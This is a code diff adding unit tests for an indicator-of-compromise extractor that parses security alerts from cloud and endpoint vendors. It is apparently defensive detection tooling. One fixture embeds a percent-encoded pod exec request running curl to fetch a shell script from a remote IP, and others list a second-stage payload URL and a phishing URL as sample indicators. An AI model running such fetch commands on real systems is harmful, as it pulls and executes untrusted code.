@@ -131,3 +131,112 @@ describe('alertIocs', () => {
     ]);
   });
 });
+
+describe('alertIocs: cloud endpoints, digests of what is not a file, vendor portals', () => {
+  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
+
+  it("takes no cloud API endpoint or public registry as a domain, but a bucket's or an instance's host", () => {
+    const alert = {
+      clientProvidedHostHeader: 'iam.amazonaws.com',
+      '@type': 'type.googleapis.com/google.apps.alertcenter.type.MailPhishing',
+      note: 'called sts.us-east-1.amazonaws.com, pulled docker.io/library/alpine',
+      Host: 'backups-7f3a.s3.amazonaws.com',
+      publicDnsName: 'ec2-54-210-17-9.compute-1.amazonaws.com',
+    };
+    expect(found(alert)).toEqual([
+      'domain backups-7f3a.s3.amazonaws.com',
+      'domain ec2-54-210-17-9.compute-1.amazonaws.com',
+    ]);
+  });
+
+  it("takes no digest of a message's body or subject, nor of the event, for a file's hash", () => {
+    const alert = {
+      md5HashMessageBody: '1b7e3f0c9a2d4e6f8a0b1c2d3e4f5a6b',
+      md5HashSubject: 'c0ffee1234567890abcdef0123456789',
+      event_hash: '6c2e1a9f0b3d4e5f6a7b8c9d0e1f2a3b',
+      attachmentMd5: '8f14e45fceea167a5a36dedd4bea2543',
+      // Sysmon's fields in Sentinel's WindowsEvent: the hashes are the process image's.
+      EventData: JSON.stringify({ Hashes: 'SHA1=F43D9BB316E30AE1A3494AC5B0624F6BEA1BF054' }),
+    };
+    expect(found(alert)).toEqual([
+      'md5 8f14e45fceea167a5a36dedd4bea2543',
+      'sha1 F43D9BB316E30AE1A3494AC5B0624F6BEA1BF054',
+    ]);
+  });
+
+  it("takes no link to a vendor's threat portal, sandbox or investigation tool", () => {
+    const alert = {
+      securityInvestigationToolLink: 'https://admin.google.com/ac/sc/investigation?query=9a4c1f52',
+      threatUrl: 'https://threatinsight.proofpoint.com/a1b2c3d4/threat/email/2fab740f',
+      cloud: 'wildfire.paloaltonetworks.com',
+      url: 'https://invoice-portal-pay.com/view/INV-20931',
+    };
+    expect(found(alert)).toEqual(['url https://invoice-portal-pay.com/view/INV-20931']);
+  });
+});
+
+describe('alertIocs: names written as URLs, versions, encodings and the log pipeline', () => {
+  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
+
+  it("takes no claim type, service principal name or cloud API resource link as a URL, but a bucket's object", () => {
+    const alert = {
+      EventData: '["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name","SIMULANDLABS\\\\adfsadmin"]',
+      ServicePrincipalNames:
+        '00000003-0000-0000-c000-000000000000/ags.windows.net;https://graph.microsoft.com;https://graph.microsoft.us/',
+      selfLink:
+        'https://www.googleapis.com/compute/v1/projects/acme-prod-3341/zones/us-central1-a/instances/web-frontend-2',
+      apiVersion: 'audit.k8s.io/v1',
+      annotations: { 'authorization.k8s.io/decision': 'allow' },
+      download: 'https://storage.googleapis.com/drop-7f2a/stage2.bin',
+    };
+    expect(found(alert)).toEqual(['url https://storage.googleapis.com/drop-7f2a/stage2.bin']);
+  });
+
+  it('takes no version, certificate digest, import hash, URN, key name or user agent hex for an indicator', () => {
+    const alert = {
+      SyslogMessage: 'type=AUOMS_EXECVE auoms_version=2.5.2.0 node=UBUNTU5',
+      java_version: '1.8.0.251',
+      resp_certificate_sha1: 'd9105746ea023ecdc6a47e7b4d026d5308525b8c',
+      Hashes: 'MD5=04029E121A0CFA5991749937DD22A1D9,IMPHASH=7C955A0ABC747F57CCC4324480737EF7',
+      Urn: 'urn:MailClusterEntity:44fc7590713f49e1c784726c4d83cb11',
+      ClusterByValue: 'subject;urn:MailClusterEntity:be46835fea00c99a899a90773360e39b;1',
+      serviceAccountKeyName:
+        '//iam.googleapis.com/projects/acme-prod-3341/serviceAccounts/ci@acme-prod-3341.iam.gserviceaccount.com/keys/4d1c8a7f0e2b9d6c3a5f8e1b7d0c4a2f9e6b3d8a',
+      callerSuppliedUserAgent: 'gcloud/455.0.0 invocation-id/c3d9e2f1a4b54c6d8e7f0a1b2c3d4e5f',
+      event: { hash: 'a41f0d7be2c93e5f18d64b07c29a3e61' },
+    };
+    expect(found(alert)).toEqual(['md5 04029E121A0CFA5991749937DD22A1D9']);
+  });
+
+  it("reads list separators, IPv4-mapped and percent-encoded addresses, and skips the pipeline's metadata", () => {
+    const alert = {
+      QueryResults: 'fe80::798a:6744:8c18:1b47;::ffff:192.168.2.5;',
+      ClusterByValue: 'http://ym018491661.wittytree-b6f239d6.northeurope.azurecontainerapps.io/;1',
+      requestURI:
+        '/api/v1/namespaces/payments/pods/api-7d9/exec?command=curl+http%3A%2F%2F185.243.115.84%2Fk.sh',
+      '@system': 'bobs.bigwheel.local',
+      observer: { hostname: 'zeek-01.corp.example-lab.com' },
+    };
+    expect(found(alert)).toEqual([
+      'ipv4 192.168.2.5',
+      'ipv6 fe80::798a:6744:8c18:1b47',
+      'url http://ym018491661.wittytree-b6f239d6.northeurope.azurecontainerapps.io/',
+      'ipv4 185.243.115.84',
+    ]);
+  });
+});
+
+describe('alertIocs: text fields, analysts, token parties and prefixed ids', () => {
+  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
+
+  it("takes a file's hash from a log line under `message`; no comment author, token issuer or prefixed id", () => {
+    const alert = {
+      message: 'CEF:0|Check Point|Anti Bot|Check Point|Log|x|High|fileHash=0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f',
+      Comments: [{ message: 'ADFS key read', author: { name: 'u101@a.alpineskihouse.co' } }],
+      claims: { iss: 'https://sts.windows.net/a839b112-1253-6432-9bf6-94542403f21c/' },
+      see_also: ['https://unit42.paloaltonetworks.com/cve-2024-3400/'],
+      Process: 'p-6f36fc14a9f4241ba80328cee5b87ea2290935d7',
+    };
+    expect(found(alert)).toEqual(['md5 0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f']);
+  });
+});
